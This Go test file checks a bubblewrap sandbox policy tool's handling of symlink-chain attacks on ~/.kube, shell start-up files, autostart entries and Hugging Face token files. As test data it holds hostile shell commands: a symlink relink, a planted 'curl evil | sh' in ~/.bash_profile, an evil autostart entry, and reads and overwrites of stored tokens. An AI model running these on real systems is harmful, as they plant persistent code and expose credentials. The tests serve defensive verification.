package sandboxtest

import (
	"os"
	"strings"
	"testing"
)

// The symlink chains of home paths the host reads or runs, through the
// writable set (H10): a denied entry's link, a start-up entry's missing
// target.

// compileRefused compiles yaml and wants it refused (exit 1, no
// invocation written) with stderr holding subs.
func (f *fixture) compileRefused(yaml string, subs ...string) {
	f.t.Helper()
	out := f.expand("{base}/refused.json")
	r := f.exec(call{argv: []string{tool("bwpolicy"), "compile", "-o", out, "--config", f.settings(yaml)}})
	f.wantCode(r, 1)
	f.wantStderr(r, subs...)
	f.wantHostAbsent(out)
}

// H10: ~/.kube -> ~/rtK/l -> real, denied, with cwd ~/rtK: the mask sits
// at rtK/real, but a command could replace the link l with one to a
// directory of its own, and the host's kubectl would read (and run the
// exec plugins of) the command's config. Refused at compile in both
// layouts, naming the link; `bwpolicy run` runs nothing (125) and the
// host's ~/.kube/config still reads ORIG. With ~/.kube pointed straight
// at the final target (the fix) the same command runs and the host's
// ~/.kube is untouched. Control: bwrap with the old protection (the
// working directory writable, a tmpfs over rtK/real only) lets the
// command redirect the host's ~/.kube/config.
func testDeniedChainRelink(t *testing.T, f *fixture) {
	f.write(f.expand("{home}/rtK/real/config"), "ORIG\n")
	f.symlink("real", "{home}/rtK/l")
	f.symlink("{home}/rtK/l", "{home}/.kube")
	attack := `rm l && mkdir real2 && echo EVIL > real2/config && ln -s real2 l`
	for _, layout := range []string{"", denylist} {
		f.compileRefused(layout+"cwd: {home}/rtK\n", "[H10]", "{home}/rtK/l", "{home}/.kube", "re-point", "final target")
	}
	r := f.exec(call{dir: "{home}/rtK", argv: []string{tool("bwpolicy"), "run", "--", "/bin/sh", "-c", attack}})
	f.wantCode(r, 125)
	f.wantStderr(r, "[H10]", "{home}/rtK/l")
	f.wantHostFile("{home}/.kube/config", "ORIG\n")
	if target, err := os.Readlink(f.expand("{home}/rtK/l")); err != nil || target != "real" {
		t.Errorf("host rtK/l: readlink %q, %v; want real", target, err)
	}

	// The fix: ~/.kube -> rtK/real. The command may do what it likes
	// with l; the host's ~/.kube still leads to real, masked inside.
	if err := os.Remove(f.expand("{home}/.kube")); err != nil {
		t.Fatal(err)
	}
	f.symlink("{home}/rtK/real", "{home}/.kube")
	for _, layout := range []string{"", denylist} {
		r = f.sandbox(layout+"cwd: {home}/rtK\n", `
ok relink '`+attack+`'
val masked 'cat {home}/rtK/real/config'
ok undo 'rm l && rm -r real2 && ln -s real l'
`, call{dir: "{home}/rtK"})
		f.expect(r, want{"relink": "yes", "masked": absent, "undo": "yes"})
		f.wantHostFile("{home}/.kube/config", "ORIG\n")
	}

	// Control: the chain as before the fix (~/.kube -> rtK/l), the mask
	// only at the final target.
	if err := os.Remove(f.expand("{home}/.kube")); err != nil {
		t.Fatal(err)
	}
	f.symlink("{home}/rtK/l", "{home}/.kube")
	rtK := f.expand("{home}/rtK")
	c := f.exec(call{dir: "{home}/rtK", argv: []string{bwrapPath, "--ro-bind", "/", "/", "--bind", rtK, rtK, "--tmpfs", rtK + "/real",
		"--dev", "/dev", "--proc", "/proc", "--unshare-all", "--chdir", rtK, "/bin/sh", "-c", attack}})
	f.wantCode(c, 0)
	f.wantHostFile("{home}/.kube/config", "EVIL\n")
}

// H10: start-up entries that are symlinks to missing paths in the
// working directory ~/rtB: ~/.bash_profile -> rtB/d/bash_profile (an
// allowed entry) and ~/.config/autostart -> ~/rtB/d/autostart (left out
// by the allowlist layout; the host's session runs it all the same). A
// command could create the targets and the host's login shell and
// session would run them: refused at compile in both layouts, naming
// each entry, its missing target and the fix; `bwpolicy run` runs
// nothing (125) and the targets stay absent. With the targets created
// first (the fix) they are bound read-only, parents pinned: the command
// can neither write them, nor rename d away, while the rest of rtB stays
// writable. Control: bwrap with HOME bound read-write creates both.
func testStartupChainDangling(t *testing.T, f *fixture) {
	f.mkdirAll(f.expand("{home}/rtB/d"))
	if err := os.Remove(f.expand("{home}/.bash_profile")); err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	f.symlink("rtB/d/bash_profile", "{home}/.bash_profile")
	f.symlink("{home}/rtB/d/autostart", "{home}/.config/autostart")
	attack := `
ok profile 'echo "curl evil | sh" > {home}/rtB/d/bash_profile'
ok autostart 'mkdir -p {home}/rtB/d/autostart && echo "[Desktop Entry]" > {home}/rtB/d/autostart/evil.desktop'
`
	planted := []string{"{home}/rtB/d/bash_profile", "{home}/rtB/d/autostart"}
	for _, layout := range []string{"", denylist} {
		f.compileRefused(layout+"cwd: {home}/rtB\n", "[H10]", "{home}/.bash_profile", "{home}/rtB/d/bash_profile",
			"{home}/.config/autostart", "{home}/rtB/d/autostart", "does not exist", "create the target first", "protect.allow")
	}
	r := f.exec(call{dir: "{home}/rtB", argv: []string{tool("bwpolicy"), "run", "--", "/bin/sh", "-c", f.expand(prelude + attack)}})
	f.wantCode(r, 125)
	f.wantStderr(r, "[H10]", "{home}/rtB/d/bash_profile")
	for _, p := range planted {
		f.wantHostAbsent(p)
	}

	// The fix: the targets exist when compiling.
	f.write(f.expand("{home}/rtB/d/bash_profile"), "# profile\n")
	f.mkdirAll(f.expand("{home}/rtB/d/autostart"))
	for _, layout := range []string{"", denylist} {
		r = f.sandbox(layout+"cwd: {home}/rtB\n", attack+`
ok mv 'mv {home}/rtB/d {home}/rtB/d2'
ok other 'echo o > {home}/rtB/other'
`, call{dir: "{home}/rtB"})
		f.expect(r, want{"profile": "no", "autostart": "no", "mv": "no", "other": "yes"})
		f.wantHostFile("{home}/rtB/d/bash_profile", "# profile\n")
		f.wantHostAbsent("{home}/rtB/d/autostart/evil.desktop")
		f.wantHostFile("{home}/rtB/other", "o\n")
	}

	// Control: without the sandbox's protections the command creates
	// both targets, which the host's shell and session then run.
	for _, p := range planted {
		if err := os.RemoveAll(f.expand(p)); err != nil {
			t.Fatal(err)
		}
	}
	c := f.plainHomeRW(attack)
	f.expect(c, want{"profile": "yes", "autostart": "yes"})
	f.wantHostFile("{home}/.bash_profile", "curl evil | sh\n")
	f.wantHostFile("{home}/.config/autostart/evil.desktop", "[Desktop Entry]\n")
}

// H10: Hugging Face's stored_tokens (every named token huggingface_hub
// keeps, next to the active token) is denied like token: unreadable in
// both layouts, and a read-write bind of ~/.cache/huggingface, where a
// command could create it, is refused. Controls: bwrap with the host
// root reads it; bwrap with the directory bound read-write creates it.
func testHFStoredTokens(t *testing.T, f *fixture) {
	f.write(f.expand("{home}/.cache/huggingface/token"), f.expand("hf_{marker}\n"))
	f.write(f.expand("{home}/.cache/huggingface/stored_tokens"), f.expand("[work]\nhf_token = hf_{marker}\n"))
	f.write(f.expand("{home}/.huggingface/stored_tokens"), f.expand("[old]\nhf_token = hf_{marker}\n"))
	f.write(f.expand("{home}/.cache/huggingface/hub/model"), "weights\n")
	script := `
val stored 'cat {home}/.cache/huggingface/stored_tokens'
val legacy 'cat {home}/.huggingface/stored_tokens'
val model 'cat {home}/.cache/huggingface/hub/model'
`
	for _, layout := range []string{"", denylist} {
		r := f.sandbox(layout, script, call{}) // noMarker: neither token shows
		f.expect(r, want{"model": "weights"})
	}
	c := f.exec(call{argv: []string{bwrapPath, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all",
		"/bin/sh", "-c", f.expand("cat {home}/.cache/huggingface/stored_tokens {home}/.huggingface/stored_tokens")}})
	if n := strings.Count(c.stdout, f.marker); n != 2 {
		t.Errorf("control: plain bwrap read %d of 2 markers: %v", n, c)
	}

	// Absent: a writable ~/.cache/huggingface would let a command create
	// it for the host's huggingface_hub to use.
	if err := os.Remove(f.expand("{home}/.cache/huggingface/stored_tokens")); err != nil {
		t.Fatal(err)
	}
	hf := f.expand("{home}/.cache/huggingface")
	f.compileRefused("binds:\n  - {src: "+hf+", readonly: false}\n", "[H10]", "could create the denied path", hf+"/stored_tokens")
	c = f.exec(call{argv: []string{bwrapPath, "--ro-bind", "/", "/", "--bind", hf, hf, "--dev", "/dev", "--proc", "/proc", "--unshare-all",
		"/bin/sh", "-c", "echo '[evil]' > " + hf + "/stored_tokens"}})
	f.wantCode(c, 0)
	f.wantHostFile("{home}/.cache/huggingface/stored_tokens", "[evil]\n")
}
